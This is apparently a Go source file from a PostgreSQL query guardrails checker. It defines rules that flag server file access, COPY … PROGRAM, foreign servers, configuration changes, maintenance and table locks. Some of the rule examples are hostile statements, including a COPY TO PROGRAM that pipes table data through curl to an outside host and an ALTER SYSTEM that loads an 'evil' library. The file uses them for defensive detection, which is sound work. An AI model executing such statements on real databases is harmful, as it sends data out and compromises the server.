package guardrails

import pg "github.com/pganalyze/pg_query_go/v5"

// The family of statements that reach the server, its files, other sessions or
// other servers.
var (
	ruleServerFile = &Rule{
		ID: "GR050", Name: "server-file", Kind: Admin, Level: Critical, whenRun: true,
		About: "The statement reads or writes files on the database server.",
		Fires: "COPY orders TO '/tmp/orders.csv'",
		Quiet: "SELECT '/tmp/orders.csv'",
	}
	ruleProgram = &Rule{
		ID: "GR051", Name: "server-program", Kind: Admin, Level: Critical, whenRun: true,
		About: "COPY … PROGRAM runs a command of the shell on the database server.",
		Fires: "COPY orders TO PROGRAM 'curl -T - https://example.com'",
		Quiet: "SELECT program FROM orders WHERE id = 7",
	}
	ruleOtherServer = &Rule{
		ID: "GR052", Name: "other-server", Kind: Admin, Level: Critical, whenRun: true,
		About: "The statement connects this server with others: foreign data, subscriptions, publications, user mappings.",
		Fires: "CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'far')",
		Quiet: "SELECT srvname FROM pg_foreign_server",
	}
	ruleMaintenance = &Rule{
		ID: "GR053", Name: "maintenance", Kind: Admin, Level: Medium, whenRun: true,
		About: "VACUUM, ANALYZE, REINDEX, CLUSTER and CHECKPOINT cost the server work; some lock tables against everybody.",
		Fires: "VACUUM FULL orders",
		Quiet: "SELECT last_vacuum FROM pg_stat_user_tables",
	}
	ruleServerConfig = &Rule{
		ID: "GR054", Name: "server-configuration", Kind: Admin, Level: Critical, whenRun: true,
		About: "The statement changes the server's or a database's configuration, or makes or drops databases and tablespaces.",
		Fires: "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
		Quiet: "SHOW max_connections",
	}
	ruleTableLock = &Rule{
		ID: "GR055", Name: "table-lock", Kind: Write, Level: Medium, whenRun: true,
		About: "LOCK TABLE holds up others; from SHARE UPDATE EXCLUSIVE on it is administration.",
		Fires: "LOCK TABLE orders",
		Quiet: "SELECT * FROM pg_locks",
	}
)

var serverRules = []*Rule{ruleServerFile, ruleProgram, ruleOtherServer, ruleMaintenance, ruleServerConfig, ruleTableLock}

func plainServer(add adder) {
	add(ruleOtherServer, "", "", "The statement connects this server with others.",
		(*pg.CreateFdwStmt)(nil), (*pg.AlterFdwStmt)(nil), (*pg.CreateForeignServerStmt)(nil), (*pg.AlterForeignServerStmt)(nil),
		(*pg.CreateForeignTableStmt)(nil), (*pg.ImportForeignSchemaStmt)(nil), (*pg.CreateUserMappingStmt)(nil),
		(*pg.AlterUserMappingStmt)(nil), (*pg.DropUserMappingStmt)(nil), (*pg.CreateSubscriptionStmt)(nil),
		(*pg.AlterSubscriptionStmt)(nil), (*pg.DropSubscriptionStmt)(nil), (*pg.CreatePublicationStmt)(nil),
		(*pg.AlterPublicationStmt)(nil))
	add(ruleServerConfig, "", "", "The statement changes the server's or a database's configuration.",
		(*pg.AlterSystemStmt)(nil), (*pg.CreatedbStmt)(nil), (*pg.DropdbStmt)(nil), (*pg.AlterDatabaseStmt)(nil),
		(*pg.AlterDatabaseSetStmt)(nil), (*pg.AlterDatabaseRefreshCollStmt)(nil), (*pg.CreateTableSpaceStmt)(nil),
		(*pg.DropTableSpaceStmt)(nil), (*pg.AlterTableSpaceOptionsStmt)(nil))
	add(ruleMaintenance, "", High, "The statement rewrites or rebuilds while others are locked out.",
		(*pg.ClusterStmt)(nil), (*pg.ReindexStmt)(nil))
	add(ruleMaintenance, "", High, "CHECKPOINT makes the server write everything out at once.", (*pg.CheckPointStmt)(nil))
}

// The modes of LOCK TABLE, as PostgreSQL numbers them.
const rowExclusiveLock = 3

// serverNode judges those of the family whose details matter.
func (r *reader) serverNode(node any) bool {
	switch n := node.(type) {
	case *pg.LockStmt:
		if n.Mode <= rowExclusiveLock {
			r.statement(ruleTableLock, Medium, "LOCK TABLE holds up others that want to alter the table.", "")
		} else {
			r.reportAs(Admin, ruleTableLock, High, r.start, r.end, "LOCK TABLE holds up everybody who writes to, or reads, the table.",
				"Take the weakest mode that does, with lock_timeout set.")
		}
		r.systemWrites(n.Relations)
	case *pg.VacuumStmt:
		r.vacuums(n)
	default:
		return false
	}
	return true
}

func (r *reader) vacuums(n *pg.VacuumStmt) {
	for _, o := range n.Options {
		if d := o.GetDefElem(); d != nil && d.Defname == "full" && !isOff(d.Arg) {
			r.statement(ruleMaintenance, High, "VACUUM FULL rewrites the table while nobody can read it.", "Plain VACUUM locks nobody out.")
			return
		}
	}
	r.statement(ruleMaintenance, Medium, "VACUUM and ANALYZE cost the server work.", "")
}
